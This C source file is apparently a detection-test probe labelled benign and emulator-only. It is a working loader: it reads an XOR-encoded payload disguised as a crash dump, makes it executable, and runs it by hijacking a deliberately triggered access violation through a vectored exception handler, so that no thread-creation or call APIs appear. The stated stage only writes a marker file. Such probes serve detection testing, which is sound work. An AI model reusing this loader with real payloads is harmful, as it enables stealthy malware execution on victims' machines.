/*
 * loader.c - probe: shellcode started by a vectored exception handler (benign, emulator-only;
 * see ../../lineage-common/common.h). Works on x64 and x86.
 *
 * Reads C:\ProgramData\ChainreplayDemo\crash.dmp into new RW memory, XORs it in place with the
 * 4-byte key 91 2e 7c 05, makes it PAGE_EXECUTE_READ, registers a vectored exception handler and
 * writes through a NULL pointer. The handler (first access violation only) points the faulting
 * thread's instruction pointer at the payload, with the context block as its argument and a
 * return into finish(): no CreateThread, no call, no callback API.
 * The stage writes C:\Users\Public\lineage_veh.txt.
 * Exit codes: 0 ok, 1 no marker, 2 file, 3 memory, 4 handler, 5 fault not dispatched.
 */
#include "common.h"

static const unsigned char KEY[4] = {0x91, 0x2e, 0x7c, 0x05};
static struct sc_ctx g_ctx;
static unsigned char *g_code;
static volatile LONG g_faults;

static void finish(void)
{
    ExitProcess(g_faults == 1 ? 0 : 6);
}

static LONG CALLBACK handler(EXCEPTION_POINTERS *info)
{
    CONTEXT *c = info->ContextRecord;
    ULONG_PTR sp;
    if (info->ExceptionRecord->ExceptionCode != EXCEPTION_ACCESS_VIOLATION || g_faults++)
        return EXCEPTION_CONTINUE_SEARCH;
#if defined(__x86_64__)
    sp = ((c->Rsp - 0x200) & ~(ULONG_PTR)0xF) - 8;
    *(ULONG_PTR *)sp = (ULONG_PTR)&finish;
    c->Rsp = sp;
    c->Rcx = (ULONG_PTR)&g_ctx;
    c->Rip = (ULONG_PTR)g_code;
#else
    sp = ((c->Esp - 0x200) & ~(ULONG_PTR)0xF) - 8;
    ((ULONG_PTR *)sp)[0] = (ULONG_PTR)&finish;
    ((ULONG_PTR *)sp)[1] = (ULONG_PTR)&g_ctx;
    c->Esp = sp;
    c->Eip = (ULONG_PTR)g_code;
#endif
    return EXCEPTION_CONTINUE_EXECUTION;
}

void Entry(void)
{
    volatile int *volatile nowhere = 0;
    HANDLE f;
    DWORD size, n = 0, i, old;

    if (!marker_present())
        ExitProcess(1);
    f = CreateFileA("C:\\ProgramData\\ChainreplayDemo\\crash.dmp", GENERIC_READ, FILE_SHARE_READ, 0,
                    OPEN_EXISTING, FILE_ATTRIBUTE_NORMAL, 0);
    if (f == INVALID_HANDLE_VALUE)
        ExitProcess(2);
    size = GetFileSize(f, 0);
    if (size == INVALID_FILE_SIZE || size < 64)
        ExitProcess(2);
    g_code = (unsigned char *)VirtualAlloc(0, size, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!g_code)
        ExitProcess(3);
    if (!ReadFile(f, g_code, size, &n, 0) || n != size)
        ExitProcess(2);
    CloseHandle(f);
    for (i = 0; i < size; i++)
        g_code[i] ^= KEY[i & 3];
    if (!VirtualProtect(g_code, size, PAGE_EXECUTE_READ, &old))
        ExitProcess(3);
    fill_ctx(&g_ctx, "C:\\Users\\Public\\lineage_veh.txt", "ran from a vectored exception handler\n");
    if (!AddVectoredExceptionHandler(1, handler))
        ExitProcess(4);
    *nowhere = 1;
    ExitProcess(5);
}
